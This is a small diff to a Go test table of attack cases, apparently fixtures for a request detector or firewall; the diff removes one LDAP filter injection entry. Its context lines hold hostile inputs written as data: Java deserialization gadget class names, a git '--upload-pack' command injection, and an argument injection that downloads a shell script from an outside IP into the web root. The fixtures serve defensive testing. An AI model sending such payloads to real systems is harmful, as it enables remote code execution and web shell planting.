@@ -220,7 +220,6 @@ var attackCases = []attackCase{
 	{KindBodyValue, "", "ch.qos.logback.core.db.DriverManagerConnectionSource", "java-class-name"},
 	{KindBodyValue, "@type", "com.zaxxer.hikari.HikariConfig", "java-class-name"},
 	{KindQueryValue, "branch", "--upload-pack=touch /tmp/pwned", "rce-argument-injection"},
-	{KindBodyValue, "username", "*", "ldap-filter-injection"},
 	{KindBodyValue, "_method", "__construct", "php-probe"},
 	{KindBodyValue, "password", "*", "ldap-filter-injection"},
 	{KindBodyValue, "url", "-o /var/www/html/s.php http://203.0.113.50/shell.txt", "rce-argument-injection"},
